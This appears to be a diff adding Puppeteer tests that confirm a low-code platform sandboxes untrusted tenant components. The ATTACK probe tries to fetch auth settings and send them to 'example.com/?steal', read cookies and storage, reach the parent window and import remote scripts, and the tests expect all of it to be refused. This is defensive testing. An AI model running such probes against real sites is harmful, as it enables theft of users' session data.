@@ -1,0 +1,244 @@
+import { createHash } from 'node:crypto';
+import type { Frame, HTTPRequest, Page } from 'puppeteer';
+import { controlledProduct } from '../support/controlledProduct';
+import { enterWorkspace } from '../support/enterWorkspace';
+import { byRole, click, fill, findByRole, findByText } from '../support/find';
+import type { WatchedPage } from '../support/newPage';
+import { waitForText } from '../support/waitForText';
+
+const product = controlledProduct();
+
+const UI = '/api/teapi/protocol/uiprotocol';
+
+interface TestWidget {
+  name: string;
+  code: string;
+  /** The tenant names the content of its file. */
+  isNamed?: boolean;
+  /** What is downloaded in its place. */
+  served?: string;
+}
+
+/** The platform answers with these components and, for `gallery-custom`, with a page of these controls. */
+interface Tenant {
+  widgets: readonly TestWidget[];
+  controls: readonly object[];
+}
+
+const hashOf = (code: string) => createHash('sha256').update(code).digest('hex');
+const json = (data: unknown) => ({ contentType: 'application/json', body: JSON.stringify({ resp_data: data }) });
+
+function answerFor(request: HTTPRequest, { widgets, controls }: Tenant) {
+  const url = new URL(request.url());
+  if (url.pathname === `${UI}/getwidgets`) return json(widgets.map(({ name, code, isNamed }) => ({ ename: name, updatetime: 1, mainfilekey: name, mainfilehash: isNamed ? hashOf(code) : '' })));
+  if (url.pathname === '/api/teapi/protocol/file/download') {
+    const widget = widgets.find(({ name }) => name === url.searchParams.get('filekey'));
+    return widget && { contentType: 'text/javascript', body: widget.served ?? widget.code };
+  }
+  if (url.pathname === `${UI}/getprotocolbypagecode` && request.postData()?.includes('gallery-custom')) {
+    return json({ pagecode: 'gallery-custom', pagetype: 200, protocol: { protocolversion: '1.1.0', pageinfo: { type: 200, title: '组件' }, controls }, metadata: {}, status: 1, updatetime: 1 });
+  }
+  return undefined;
+}
+
+async function playTenant(page: Page, tenant: Tenant): Promise<void> {
+  await page.setRequestInterception(true);
+  page.on('request', (request) => {
+    const answer = answerFor(request, tenant);
+    void (answer ? request.respond(answer) : request.continue());
+  });
+}
+
+const openPage = (page: Page) => page.evaluate(() => (location.hash = '/page?pagecode=gallery-custom'));
+
+/** Starts the workspace anew as this tenant, and shows its page. */
+async function showTenant({ page }: WatchedPage, tenant: Tenant): Promise<void> {
+  await playTenant(page, tenant);
+  await page.reload();
+  await findByRole(page, 'tablist', '已打开的页面');
+  await openPage(page);
+}
+
+async function frameOf(page: Page, title: string): Promise<Frame> {
+  const element = await page.waitForSelector(`iframe[title="${title}"]`);
+  const frame = await element?.contentFrame();
+  if (!frame) throw new Error(`No frame ${title}`);
+  return frame;
+}
+
+/** Waits until this can be read in the frame. */
+const waitInFrame = (frame: Frame, text: string) => frame.waitForFunction((wanted) => document.body.textContent.includes(wanted), {}, text);
+
+const custom = (component: string, more: object = {}) => ({ type: 'custom', name: component.replaceAll('-', '_'), title: component, component, ...more });
+const note = { type: 'text', name: 'note', title: '备注' };
+
+/** A line that says what one attempt came to, once it has come to something. */
+const saying = (code: string) => `
+  const outcomes = {};
+  const said = (name, outcome) => { outcomes[name] = outcome; };
+  const attempt = (name, run) => { try { const found = run(); said(name, found && found.then ? 'waiting' : 'REACHED'); if (found && found.then) found.then(() => said(name, 'REACHED'), () => said(name, 'refused')); } catch { said(name, 'refused'); } };
+  ${code}`;
+
+const ATTACK = `${saying(`
+  attempt('fetch', () => fetch('/api/auth/settings'));
+  attempt('fetch elsewhere', () => fetch('https://example.com/?steal'));
+  attempt('request', () => { const request = new XMLHttpRequest(); request.open('GET', '/api/auth/settings', false); request.send(); });
+  attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://127.0.0.1:1'); socket.onopen = resolve; socket.onerror = reject; }));
+  attempt('localStorage', () => localStorage.length);
+  attempt('sessionStorage', () => sessionStorage.length);
+  attempt('cookie', () => document.cookie.length);
+  attempt('parent', () => parent.document.title.length);
+  attempt('top', () => { top.location.href = 'https://example.com/'; });
+  attempt('open', () => open('https://example.com/').closed);
+  attempt('database', () => new Promise((resolve, reject) => { const opening = indexedDB.open('x'); opening.onsuccess = resolve; opening.onerror = reject; }));
+  attempt('caches', () => caches.open('x'));
+  attempt('import', () => import('https://example.com/x.js'));
+  attempt('scripts', () => importScripts('https://example.com/x.js'));
+  attempt('eval', () => (0, eval)('1'));
+  attempt('channel', () => { const channel = new BroadcastChannel('x'); channel.close(); throw new Error('open to nobody: its origin is its own'); });
+`)}
+  registerComponent('attack', { properties: { again: { type: 'text' } }, render: () => [
+    { tag: 'p', text: Object.entries(outcomes).map(([name, outcome]) => name + ': ' + outcome).join('; ') },
+    { tag: 'p', text: 'origin ' + self.origin },
+  ] });`;
+
+test('a component that the tenant vouches for runs in the page, and one that nobody vouches for in a frame; both follow the page', async () => {
+  const { page, problems } = await enterWorkspace(product.browser, product.url);
+  await openPage(page);
+  const card = await page.waitForSelector('[data-control="card"] h4');
+  expect(await card?.evaluate(({ textContent }) => textContent)).toBe('配送提醒');
+  expect(await page.$('[data-control="card"] iframe')).toBeNull();
+  const frame = await frameOf(page, '箱数');
+  expect(await (await page.$('iframe[title="箱数"]'))?.evaluate((element) => element.getAttribute('sandbox'))).toBe('allow-scripts');
+  await waitInFrame(frame, '箱');
+  const more = await frame.waitForSelector('button[aria-label="增加一个"]');
+  await more?.click();
+  await more?.click();
+  await findByText(page, '配送提醒');
+  await page.waitForFunction(() => document.querySelector<HTMLInputElement>('[data-control="shown"] input')?.value === '36');
+  await fill(page, '便笺内容', '改到下午');
+  await page.waitForFunction(() => document.querySelector('[data-control="card"]')?.textContent.includes('改到下午'));
+  expect(problems).toEqual([]);
+});
+
+test('the focus enters and leaves an isolated component by keyboard, and its label leads to it', async () => {
+  const { page, problems } = await enterWorkspace(product.browser, product.url);
+  await openPage(page);
+  const frame = await frameOf(page, '箱数');
+  await frame.waitForSelector('button');
+  await (await byRole(page, 'textbox', '便笺内容').waitHandle()).focus();
+  const inFrame = () => frame.evaluate(() => document.hasFocus() && document.activeElement?.getAttribute('aria-label'));
+  await page.keyboard.press('Tab');
+  expect(await inFrame()).toBe('减少一个');
+  await page.keyboard.press('Tab');
+  expect(await inFrame()).toBe('数量');
+  await page.keyboard.type('5');
+  await page.keyboard.press('Tab');
+  await page.waitForFunction(() => document.querySelector<HTMLInputElement>('[data-control="shown"] input')?.value === '60');
+  expect(await inFrame()).toBe('增加一个');
+  await page.keyboard.press('Tab');
+  expect(await page.evaluate(() => document.activeElement?.closest('[data-control]')?.getAttribute('data-control'))).toBe('shown');
+  await click(page, 'button', '校验');
+  await page.$eval('[data-control="size"] label', (label) => label.click());
+  await page.evaluate(() => document.querySelector<HTMLElement>('[data-control="size"] [role="group"]')?.focus());
+  await frame.waitForFunction(() => document.hasFocus() && document.activeElement?.getAttribute('aria-label') === '减少一个');
+  expect(problems).toEqual([]);
+});
+
+test('an isolated component takes over language and theme, and is as high as what it shows', async () => {
+  const { page, problems } = await enterWorkspace(product.browser, product.url);
+  await openPage(page);
+  const frame = await frameOf(page, '箱数');
+  await frame.waitForSelector('button');
+  const colour = () => frame.evaluate(() => getComputedStyle(document.querySelector('input') as Element).color);
+  const light = await colour();
+  await click(page, 'button', '切换到深色');
+  await frame.waitForFunction((before) => getComputedStyle(document.querySelector('input') as Element).color !== before, {}, light);
+  const heights = await Promise.all([page.$eval('iframe[title="箱数"]', (element) => element.clientHeight), frame.evaluate(() => document.getElementById('root')?.offsetHeight)]);
+  expect(heights[0]).toBe(heights[1]);
+  expect(heights[0]).toBeGreaterThan(30);
+  expect(problems).toEqual([]);
+});
+
+test('an isolated component reaches no network, storage, cookie, page or window', async () => {
+  const entered = await enterWorkspace(product.browser, product.url);
+  const { page, problems } = entered;
+  await showTenant(entered, { widgets: [{ name: 'attack', code: ATTACK }], controls: [custom('attack', { props: { again: '=note' } }), note] });
+  const frame = await frameOf(page, 'attack');
+  await waitInFrame(frame, 'fetch:');
+  await fill(page, '备注', '再画一次');
+  await frame.waitForFunction(() => !document.body.textContent.includes('waiting'), { polling: 200 });
+  const text = await frame.evaluate(() => document.body.textContent);
+  expect(text).not.toContain('REACHED');
+  expect(text.match(/refused/g)).toHaveLength(16);
+  expect(text).toContain('origin null');
+  expect(page.url()).toContain('/page?pagecode=gallery-custom');
+  expect(await product.browser.pages()).not.toContainEqual(expect.objectContaining({ url: expect.stringContaining('example.com') as string }));
+  // What the policy refuses is told in the console, and is nothing else.
+  expect(problems.filter((problem) => !/Content Security Policy/.test(problem))).toEqual([]);
+});
+
+test('a component that loops for ever is ended, and typing goes on all the while', async () => {
+  const entered = await enterWorkspace(product.browser, product.url);
+  const { page, problems } = entered;
+  const code = "registerComponent('loop', { render: () => ({ tag: 'button', text: '转圈', on: { click: () => { for (;;); } } }) })";
+  await showTenant(entered, { widgets: [{ name: 'loop', code }], controls: [custom('loop'), note] });
+  const frame = await frameOf(page, 'loop');
+  await (await frame.waitForSelector('button'))?.click();
+  await fill(page, '备注', '照样可以输入');
+  expect(await page.$eval('[data-control="note"] input', ({ value }) => value)).toBe('照样可以输入');
+  await waitForText(page, '800 毫秒内没有响应，已停止');
+  expect(problems).toEqual([]);
+});
+
+const BADGE = "registerComponent('badge', { render: () => { globalThis.badgeRanHere = true; return { tag: 'p', text: '徽章' }; } })";
+
+test('a stored file in which one byte has changed is fetched anew, and never run as it was', async () => {
+  const entered = await enterWorkspace(product.browser, product.url);
+  const { page, problems } = entered;
+  await showTenant(entered, { widgets: [{ name: 'badge', code: BADGE, isNamed: true }], controls: [custom('badge'), note] });
+  await waitForText(page, '徽章');
+  await page.evaluate(
+    () =>
+      new Promise<void>((resolve, reject) => {
+        const opening = indexedDB.open('apaas-db');
+        opening.onerror = () => reject(new Error('no database'));
+        opening.onsuccess = () => {
+          const store = opening.result.transaction('dynamic-components', 'readwrite').objectStore('dynamic-components');
+          const reading = store.get('badge');
+          reading.onsuccess = () => {
+            const stored = reading.result as { code: string };
+            store.put({ ...stored, code: stored.code.replace('徽章', '假章') }, 'badge').onsuccess = () => resolve();
+          };
+        };
+      }),
+  );
+  await page.reload();
+  await waitForText(page, '徽章');
+  expect(await page.$('iframe[title="badge"]')).toBeNull();
+  expect(problems.filter((problem) => !problem.includes('The stored file of the component badge'))).toEqual([]);
+});
+
+test('a download that is not what the tenant names runs isolated, not in the page', async () => {
+  const entered = await enterWorkspace(product.browser, product.url);
+  const { page } = entered;
+  await showTenant(entered, { widgets: [{ name: 'badge', code: BADGE, isNamed: true, served: `${BADGE} ` }], controls: [custom('badge'), note] });
+  await waitInFrame(await frameOf(page, 'badge'), '徽章');
+  expect(await page.evaluate(() => 'badgeRanHere' in globalThis)).toBe(false);
+});
+
+test('components that fail, or are not there, say so in their place, and the page goes on', async () => {
+  const entered = await enterWorkspace(product.browser, product.url);
+  const { page, problems } = entered;
+  await showTenant(entered, {
+    widgets: [{ name: 'broken', code: 'registerComponent("broken", undefinedThing)', isNamed: true }, { name: 'broken-too', code: 'throw new Error("kaputt")' }],
+    controls: [custom('broken'), custom('broken-too'), custom('nobody'), note],
+  });
+  await waitForText(page, '注册自定义控件失败');
+  await waitForText(page, 'kaputt');
+  expect(await page.$$eval('[data-issue="component-failed"]', (cards) => cards.length)).toBe(2);
+  await waitForText(page, '组件未注册');
+  await fill(page, '备注', '没事');
+  expect(await page.$eval('[data-control="note"] input', ({ value }) => value)).toBe('没事');
+  expect(problems).toEqual([]);
+});
